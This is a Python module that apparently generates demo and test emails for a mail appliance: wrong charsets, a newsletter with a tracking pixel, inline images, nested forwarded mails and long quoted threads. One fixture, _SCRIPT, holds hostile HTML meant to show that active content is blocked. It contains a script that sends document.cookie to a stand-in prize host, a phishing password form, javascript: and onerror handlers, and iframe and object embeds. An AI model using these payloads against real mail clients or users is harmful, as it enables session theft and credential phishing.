"""Mails as they really come: wrong charsets, trackers, scripts, winmail.dat, mails inside mails, endless quotations."""

import base64
from datetime import datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime

from appliance import clock
from appliance.demo.letter import POLICY, Letter, quoted
from appliance.demo.letters import files
from appliance.demo.letters.people import JAVIER

_SCRIPT = """
<p>Congratulations! You have been chosen.</p>
<script>document.body.innerHTML = "script ran"; fetch("https://lucky-prizes.example/steal?" + document.cookie)</script>
<p><a href="javascript:alert('clicked')" onclick="alert('clicked')">Collect your prize</a>
<img src="x" onerror="alert('image')"></p>
<form action="https://lucky-prizes.example/phish"><input name="password" placeholder="Your password"></form>
<iframe src="https://lucky-prizes.example/"></iframe><object data="https://lucky-prizes.example/x"></object>
<p style="position:fixed;top:0;background:url(https://lucky-prizes.example/t.png)">Hurry, only today.</p>
"""

_NEWSLETTER = """
<table width="600" align="center" cellpadding="12" style="font-family:Georgia,serif;border:1px solid #cfd8c4">
<tr><td bgcolor="#2f6b3a" style="color:#ffffff;font-size:26px">Green Garden Weekly</td></tr>
<tr><td><img src="https://images.green-garden.example/tulips.jpg" width="560" alt="Tulips in a row"></td></tr>
<tr><td><h2>Spring offers</h2><p>Bulbs, seeds and <b>good soil</b>: this week at half the price.</p>
<p><a href="https://green-garden.example/offers">See all offers</a></p></td></tr>
<tr><td style="font-size:12px;color:#667066">You get this because you once bought a rake.
<a href="https://green-garden.example/unsubscribe">Unsubscribe</a>
<img src="https://track.green-garden.example/open.gif?who=inbox" width="1" height="1" alt=""></td></tr>
</table>
"""


def windows_1250(letter: Letter) -> bytes:
    """Right and old-fashioned: declared, quoted and encoded in windows-1250."""
    subject = base64.b64encode(letter.subject.encode("cp1250")).decode()
    return (
        f"Subject: =?windows-1250?B?{subject}?=\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/plain; charset=windows-1250\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    ).encode("ascii") + _crlf(letter.text).encode("cp1250")


def latin_2_called_ascii(letter: Letter) -> bytes:
    """Wrong: ISO-8859-2 in body and subject, declared as us-ascii."""
    head = b"Subject: " + letter.subject.encode("iso-8859-2") + b"\r\nMIME-Version: 1.0\r\n"
    body = _crlf(letter.text).encode("iso-8859-2")
    boundary = b"----=_Part_7_1250"
    picture = files.crushed_box()
    return b"\r\n".join(
        (
            head + b'Content-Type: multipart/mixed; boundary="' + boundary + b'"',
            b"",
            b"--" + boundary,
            b"Content-Type: text/plain; charset=us-ascii",
            b"Content-Transfer-Encoding: 8bit",
            b"",
            body,
            b"--" + boundary,
            b'Content-Type: image/png; name="' + picture.name.encode() + b'"',
            b"Content-Transfer-Encoding: base64",
            b"",
            base64.encodebytes(picture.content).replace(b"\n", b"\r\n") + b"--" + boundary + b"--",
            b"",
        )
    )


def newsletter(letter: Letter) -> EmailMessage:
    """Two remote images, one of which only counts who reads."""
    mail = _html(letter, _NEWSLETTER)
    mail["List-Id"] = "Green Garden Weekly <weekly.green-garden.example>"
    mail["List-Unsubscribe"] = "<https://green-garden.example/unsubscribe?u=inbox>, <mailto:leave@green-garden.example>"
    mail["Precedence"] = "bulk"
    return mail


def script(letter: Letter) -> EmailMessage:
    """All that must not work."""
    return _html(letter, _SCRIPT)


def picture_inside(letter: Letter) -> EmailMessage:
    """HTML that shows its own attachment by cid:."""
    shown = "".join(f"<p>{line}</p>" for line in letter.text.splitlines() if line)
    mail = _html(letter, f'{shown}<p><img src="cid:checkout@mail.example" alt="The page" width="360"></p>')
    page = files.screenshot()
    alternative = mail.get_payload()[1]  # type: ignore[index]
    assert isinstance(alternative, EmailMessage)
    alternative.add_related(
        page.content, maintype="image", subtype="png", cid="<checkout@mail.example>", filename=page.name
    )
    return mail


def mail_inside(letter: Letter) -> EmailMessage:
    """A mail forwarded as an attachment, with a mail of its own inside."""
    mail = EmailMessage(policy=POLICY)
    mail.set_content(letter.text)
    mail.add_attachment(_shop_confirmation(letter))
    return mail


def four_levels(letter: Letter) -> EmailMessage:
    """Everybody answered on top and nobody ever cut anything."""
    story = (
        ("Acme Service", "Dear Mr Hale, our engineer will visit you between 8 and 18. Please be at home."),
        ("Robert Hale", "I was at home from 8 to 18. Nobody came. What now?"),
        ("Acme Service", "Dear Mr Hale, the engineer reports that nobody opened. We have closed your case."),
        ("Robert Hale", "The bell works. I tried it myself. Please open the case again, we have no hot water."),
    )
    text, before = "", ""
    for ago, (who, words) in zip((5, 4, 3, 2, 1), (*story, (letter.writer.name, letter.text)), strict=True):
        text = (
            f"{words}\n\nOn {_days_ago(ago + 1):%d %b %Y at %H:%M}, {before} wrote:\n{quoted(text)}" if text else words
        )
        before = who
    mail = EmailMessage(policy=POLICY)
    mail.set_content(text + "\n")
    return mail


def _shop_confirmation(letter: Letter) -> EmailMessage:
    order = EmailMessage(policy=POLICY)
    order.set_content("Pedido 5531\n\n1 x Tetera de cobre\n1 x Colador\n\nTotal: 61,90 EUR\n")
    order["Subject"] = "Confirmación de pedido 5531"
    order["From"] = "Tienda Acme <shop@acme.test>"
    order["To"] = letter.writer.header
    order["Date"] = format_datetime(_days_ago(3))
    order["Message-ID"] = "<pedido-5531@shop.acme.test>"
    inner = EmailMessage(policy=POLICY)
    inner.set_content("¿Esto es vuestro? Me llegó a mí por error.\n")
    inner.add_attachment(order)
    inner["Subject"] = "RV: Confirmación de pedido 5531"
    inner["From"] = JAVIER.header
    inner["To"] = letter.writer.header
    inner["Date"] = format_datetime(_days_ago(2))
    return inner


def _html(letter: Letter, html: str) -> EmailMessage:
    mail = EmailMessage(policy=POLICY)
    mail.set_content(letter.text)
    mail.add_alternative(f"<!DOCTYPE html><html><body>{html}</body></html>", subtype="html")
    return mail


def _days_ago(days: int) -> datetime:
    return clock.now() - timedelta(days=days)


def _crlf(text: str) -> str:
    return text.replace("\n", "\r\n") + "\r\n"
